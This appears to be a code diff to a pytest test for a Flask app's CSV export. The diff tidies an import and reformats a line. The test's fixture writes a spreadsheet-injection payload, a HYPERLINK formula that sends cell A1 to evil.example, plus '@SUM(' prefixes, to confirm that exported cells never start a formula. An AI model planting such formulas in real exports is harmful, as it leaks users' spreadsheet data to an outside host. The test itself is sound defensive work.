@@ -7,7 +7,6 @@ from __future__ import annotations
 import csv
 import io
 
-import pytest
 from flask.testing import FlaskClient
 from sqlalchemy import text
 
@@ -31,7 +30,9 @@ def test_csv_cells_never_start_a_formula(client: FlaskClient, register: Register
     assert world is not None
     hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
     with register.database.engine.begin() as conn:
-        conn.execute(text("UPDATE gain_site SET name = :name WHERE reference = :ref"), {"name": hostile, "ref": world.site})
+        conn.execute(
+            text("UPDATE gain_site SET name = :name WHERE reference = :ref"), {"name": hostile, "ref": world.site}
+        )
         conn.execute(text("UPDATE habitat_parcel SET ref = '@SUM(' || ref || ')' WHERE stage = 'creation'"))
     hedge = next(p for p in s.register.site(world.site).parcels if p.module == "hedgerow" and p.stage == "creation")
     assert hedge.id is not None
